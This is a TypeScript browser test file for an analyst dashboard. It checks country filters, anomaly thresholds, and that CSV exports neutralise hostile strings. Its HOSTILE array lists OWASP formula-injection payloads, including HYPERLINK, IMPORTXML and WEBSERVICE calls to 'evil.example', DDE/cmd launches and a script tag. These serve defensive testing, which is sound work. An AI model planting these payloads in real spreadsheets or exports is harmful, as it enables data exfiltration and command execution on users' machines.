/**
 * The analyst pages' inputs: choosing a country changes the overview's KPI cards, moving the anomaly
 * threshold changes the number of flagged days, and the explorer's CSV download holds exactly the
 * filtered rows with hostile strings neutralised (through src/io/csv.ts).
 */
import {readdirSync, readFileSync} from "node:fs";
import {join} from "node:path";
import {csvParse} from "d3";
import {describe, expect, it} from "vitest";
import {encodeArrow} from "../../src/io/arrow.js";
import {DAILY_COUNTRY} from "../../src/io/contracts.js";
import {loadArrow, toRows} from "../../src/io/readArrow.js";
import type {Columns} from "../../src/io/schema.js";
import {DIST, withSite, type OpenedPage} from "./site.js";

const cardTexts = (opened: OpenedPage) => opened.page.locator("#overview-counts .kpi-card, #overview-rates .kpi-card").allTextContents();

describe("overview.html", () => {
  it("changes every KPI card when a country is chosen", async () => {
    await withSite(async (site) => {
      const opened = await site.openPage("overview.html");
      const before = await cardTexts(opened);
      expect(before.length).toBe(8);
      // kpiCard names the comparison period by its dates.
      expect(before.join(" ")).toMatch(/vs \d{4}-\d{2}-\d{2} to \d{4}-\d{2}-\d{2}/);
      await opened.page.locator("form", {hasText: "Country"}).locator("select").selectOption("Singapore");
      await opened.settle();
      const after = await cardTexts(opened);
      expect(after.length).toBe(8);
      after.forEach((text, i) => expect(text, `card ${i}`).not.toBe(before[i]));
      // The country table follows the same inputs.
      expect(await opened.page.locator("table tbody tr").count()).toBe(1);
      await opened.screenshot("overview-singapore.png");
      await opened.assertClean();
    });
  });
});

describe("anomalies.html", () => {
  it("flags fewer days when the threshold rises, and other days with another detector", async () => {
    await withSite(async (site) => {
      const opened = await site.openPage("anomalies.html");
      const {page} = opened;
      const count = async () => Number(await page.locator("#flagged-count").textContent());
      const atDefaults = await count();
      expect(atDefaults).toBeGreaterThan(0);
      await page.locator("form", {hasText: "Threshold (z)"}).locator('input[type="number"]').fill("3.5");
      await opened.settle();
      const high = await count();
      expect(high).toBeLessThan(atDefaults);
      expect(await page.locator("table").first().locator("tbody tr").count()).toBe(high);
      await page.locator("form", {hasText: "Detector"}).getByLabel("Robust z (median, MAD)").check();
      await opened.settle();
      expect(await count()).not.toBe(high);
      await opened.assertClean();
    });
  });
});

/** Formula-injection strings (OWASP), each starting with a spreadsheet trigger. */
const HOSTILE = [
  "=1+1", '=HYPERLINK("http://evil.example","click")', "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
  '=WEBSERVICE("http://evil.example")', "\t=1+1", "\r=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', "+-@=", "-1", "@", "=", '="a,b""c"', "=1+1<script>alert(1)</script>", "@import url(x)"
];

function hostileFixture(): Uint8Array {
  const file = readdirSync(join(DIST, "_file", "data")).find((f) => /^daily_country\.[0-9a-f]+\.arrow$/.test(f));
  if (!file) throw new Error("no daily_country arrow in dist");
  return readFileSync(join(DIST, "_file", "data", file));
}

describe("explorer.html", () => {
  it("downloads the filtered rows as CSV with hostile strings neutralised and numbers intact", async () => {
    // The first rows of the published table, one per hostile string, each renamed to one.
    const rows = toRows(await loadArrow(hostileFixture(), "daily_country")).slice(0, HOSTILE.length);
    expect(rows.length).toBe(HOSTILE.length);
    rows.forEach((r, i) => (r.country = HOSTILE[i]));
    const columns: Columns = {};
    for (const c of DAILY_COUNTRY.columns) columns[c.name] = rows.map((r) => (r[c.name] instanceof Date ? (r[c.name] as Date).toISOString().slice(0, 10) : r[c.name])) as never;
    // The contract's country list would reject the hostile names: the fixture relaxes only that rule.
    const schema = {...DAILY_COUNTRY, columns: DAILY_COUNTRY.columns.map((c) => (c.name === "country" ? {...c, values: undefined} : c))};
    const body = Buffer.from(encodeArrow(schema, columns, null));
    await withSite(async (site) => {
      const opened = await site.openPage("explorer.html");
      // Settled first, so that the reload aborts no request in flight.
      await opened.page.route(/\/_file\/data\/daily_country\.[0-9a-f]+\.arrow$/, (route) => route.fulfill({body, contentType: "application/vnd.apache.arrow.file"}));
      await opened.page.reload();
      await opened.settle();
      // The inputs start on the reporting window; the fixture's rows are at the calendar's start.
      await opened.page.locator("form", {hasText: "From"}).locator('input[type="date"]').first().fill("2025-03-01");
      await opened.settle();
      await opened.page.locator("form", {hasText: "To"}).locator('input[type="date"]').first().fill("2025-03-01");
      await opened.settle();
      const button = opened.page.locator('button[data-format="csv"]').first();
      const expected = rows.filter((r) => (r.date as Date).toISOString().startsWith("2025-03-01"));
      expect(await button.textContent()).toContain(`Download ${expected.length} rows as CSV`);
      const download = await opened.download(() => button.click());
      const text = readFileSync((await download.path())!, "utf8");
      const parsed = csvParse(text);
      expect(parsed.length).toBe(expected.length);
      parsed.forEach((row, i) => {
        expect(row.date).toBe("2025-03-01");
        expect(row.country).toBe(`'${expected[i].country}`);
        expect(Number(row.reports)).toBe(expected[i].reports);
        expect(Number(row.report_rate)).toBeCloseTo(expected[i].report_rate as number, 12);
      });
      // Inert rendering: no hostile string became markup.
      expect(await opened.page.locator("#observablehq-main script").count()).toBe(0);
      await opened.screenshot("explorer-hostile.png");
      await opened.assertClean();
    });
  });

  it("downloads the texts matching a search from the real flag_texts table", async () => {
    await withSite(async (site) => {
      const opened = await site.openPage("explorer.html");
      const {page} = opened;
      await page.getByPlaceholder("Search texts").fill("HYPERLINK");
      await opened.settle();
      const button = page.locator('button[data-format="csv"]').nth(1);
      const label = (await button.textContent())!;
      const n = Number(label.match(/Download ([\d,]+) texts/)![1].replace(/,/g, ""));
      expect(n).toBeGreaterThan(0);
      const download = await opened.download(() => button.click());
      const parsed = csvParse(readFileSync((await download.path())!, "utf8"));
      expect(parsed.length).toBe(n);
      for (const row of parsed) expect(row.snippet.toUpperCase()).toContain("HYPERLINK");
      await opened.assertClean();
    });
  });
});
